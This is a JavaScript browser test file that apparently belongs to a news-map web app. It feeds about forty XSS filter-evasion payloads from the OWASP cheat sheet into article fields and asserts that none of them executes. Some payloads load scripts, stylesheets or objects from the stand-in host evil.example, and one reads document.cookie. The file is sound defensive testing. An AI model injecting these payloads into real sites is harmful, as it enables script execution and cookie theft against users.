// Untrusted article text must never execute: titles, captions, leads and outlet names carry
// payloads from the OWASP XSS filter-evasion cheat sheet (external URLs point at evil.example).
// Checked twice: with the server's CSP, and with CSP bypassed so the page's own DOM handling
// (textContent only, no innerHTML) is what is tested.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { chromiumMissing, startServer, launchBrowser, screenshot, isoDaysAgo, loads, waitForLoads } from './helpers.mjs';

const EVIL = 'http://evil.example';
export const PAYLOADS = [
  `<script>alert('XSS')</script>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=javascript:alert('XSS')>`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  `<a onmouseover="alert(document.cookie)">xxs link</a>`,
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
  `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
  `<IMG SRC="jav\tascript:alert('XSS');">`,
  `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
  `<SCRIPT/XSS SRC="${EVIL}/xss.js"></SCRIPT>`,
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
  `<SCRIPT SRC=${EVIL}/xss.js?< B >`,
  `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<svg/onload=alert('XSS')>`,
  `<LINK REL="stylesheet" HREF="${EVIL}/xss.css">`,
  `<STYLE>@import'${EVIL}/xss.css';</STYLE>`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  `<TABLE BACKGROUND="javascript:alert('XSS')">`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="${EVIL}/scriptlet.html"></OBJECT>`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+YWxlcnQoMSk8L3NjcmlwdD48L3N2Zz4=" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  `<BASE HREF="javascript:alert('XSS');//">`,
  `"><script>alert(1)</script>`,
  `'';!--"<XSS>=&{()}`,
  `<details open ontoggle=alert(1)>`,
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
  `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
  `<img src="${EVIL}/pixel.gif">`,
  `<video><source onerror="alert(1)">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<a href="javascript:alert(1)">Klick</a>`,
];

const TOWNS = ['Fulda', 'Kassel', 'Hamburg', 'München', 'Berlin', 'Köln', 'Leipzig', 'Bremen'];
const ARTICLES = PAYLOADS.map((p, i) => {
  const town = TOWNS[i % TOWNS.length];
  return {
    date: isoDaysAgo(i % 5),
    site: i % 4 === 0 ? `Testblatt ${p}` : 'Testblatt',
    caption: `${p} Foto: ${p}`,
    title: `${town}: ${p}`,
    lead: `Bericht aus ${town} über einen Vorfall in der Innenstadt. ${p} Die Polizei ermittelt, teilte ein Sprecher mit.`,
    dateline: town,
    body: [`Die Stadt ${town} meldet ${p} einen Vorfall. Die Ursache ist noch unklar.`],
  };
});

const skip = chromiumMissing ? 'skipped: chromium not found (/usr/bin/chromium)' : false;
if (skip) console.log(skip);
let server;
before(async () => { if (!skip) server = await startServer(ARTICLES, { name: 'pk-xss' }); });
after(async () => { await server?.stop(); });

// Everything that would show an injected element or handler.
async function injected(page) {
  return page.evaluate((origin) => {
    const bad = [];
    for (const e of document.querySelectorAll('*')) {
      for (const a of e.getAttributeNames()) {
        if (a.toLowerCase().startsWith('on')) bad.push(`${e.tagName}[${a}]`);
        const v = e.getAttribute(a) || '';
        if ((a === 'href' || a === 'src' || a === 'action' || a === 'data') && /^\s*(javascript|data|vbscript):/i.test(v)) bad.push(`${e.tagName}[${a}=${v.slice(0, 40)}]`);
      }
    }
    for (const sel of ['iframe', 'frame', 'frameset', 'object', 'embed', 'base', 'meta[http-equiv]', 'video', 'math', 'details', 'input[type=image]', 'link:not([href^="/"])', 'style']) {
      for (const e of document.querySelectorAll(sel)) bad.push(`<${e.tagName.toLowerCase()}>`);
    }
    for (const s of document.scripts) if (!s.src || !s.src.startsWith(origin + '/')) bad.push('<script ' + (s.src || 'inline') + '>');
    for (const i of document.images) if (!i.src.startsWith(origin + '/') && !i.src.startsWith('data:')) bad.push('<img ' + i.src + '>');
    if (window.__pkXss) bad.push('window.__pkXss');
    return bad;
  }, new URL(page.url()).origin);
}

for (const bypassCSP of [false, true]) {
  test(`no payload executes (${bypassCSP ? 'CSP bypassed: DOM handling alone' : 'with CSP'})`, { skip }, async () => {
    const browser = await launchBrowser({ bypassCSP });
    const page = await browser.context.newPage();
    const dialogs = [];
    const foreign = [];
    page.on('dialog', (d) => { dialogs.push(d.message()); d.dismiss().catch(() => {}); });
    page.on('request', (r) => { if (!r.url().startsWith(server.origin + '/')) foreign.push(r.url()); });
    for (const p of [page]) p.on('popup', (w) => foreign.push('popup ' + w.url()));
    try {
      await page.goto(server.origin + '/');
      await page.waitForSelector('#map[data-ready="true"]', { timeout: 15000 });
      // Every lead says "Vorfall": the word search fits the map to all payload articles,
      // wherever the geoparser put them.
      const before = await loads(page);
      await page.fill('#search-input', 'Vorfall');
      await page.press('#search-input', 'Enter');
      await waitForLoads(page, before);
      const cards = page.locator('#list .card-title');
      const n = await cards.count();
      assert.ok(n >= 1, `payload articles are listed (${n} story cards)`);
      // Near-identical reports form stories (one card, "+N sources"); opening each card shows
      // the other sources' titles too. Every payload title seen must be plain text.
      const seen = new Set();
      for (let i = 0; i < n; ++i) {
        await cards.nth(i).hover();
        await cards.nth(i).click();
        await page.waitForSelector('#panel:not([hidden]) #article-headline');
        const texts = await page.$$eval('#list .card-title, #panel-body h2, #panel-body .members li',
          (els) => els.map((e) => e.textContent));
        for (const t of texts) if (t.includes('<') && t.includes('>')) seen.add(t);
      }
      assert.ok(seen.size >= 20, `payload titles are shown as text (${seen.size})`);
      for (const m of await page.locator('.pk-marker, .pk-cluster').all()) await m.hover({ force: true }).catch(() => {});
      await screenshot(page, `xss-${bypassCSP ? 'nocsp' : 'csp'}`);
      // The region page and the feeds render the same strings.
      await page.goto(server.origin + '/region/Fulda');
      await page.waitForSelector('body[data-ready="true"], #region-error:not([hidden])', { timeout: 15000 });
      await page.waitForTimeout(300);
      const feedOk = await page.evaluate(async () => {
        const t = await (await fetch('/feeds/search.atom?q=Fulda')).text();
        return new DOMParser().parseFromString(t, 'application/xml').getElementsByTagName('parsererror').length === 0;
      });
      assert.ok(feedOk, 'the Atom feed with payloads is well-formed XML');
      assert.deepEqual(await injected(page), [], 'no injected element on the region page');
      await page.goto(server.origin + '/');
      await page.waitForSelector('#map[data-ready="true"]');
      await page.locator('#list .card-title').first().click();
      await page.waitForSelector('#panel:not([hidden]) #article-headline');
      assert.deepEqual(await injected(page), [], 'no injected element on the map page');
      await page.waitForTimeout(300);
      assert.deepEqual(dialogs, [], 'no dialog opened');
      assert.deepEqual(foreign, [], 'no request to an unexpected URL');
    } finally {
      await browser.close();
    }
  });
}
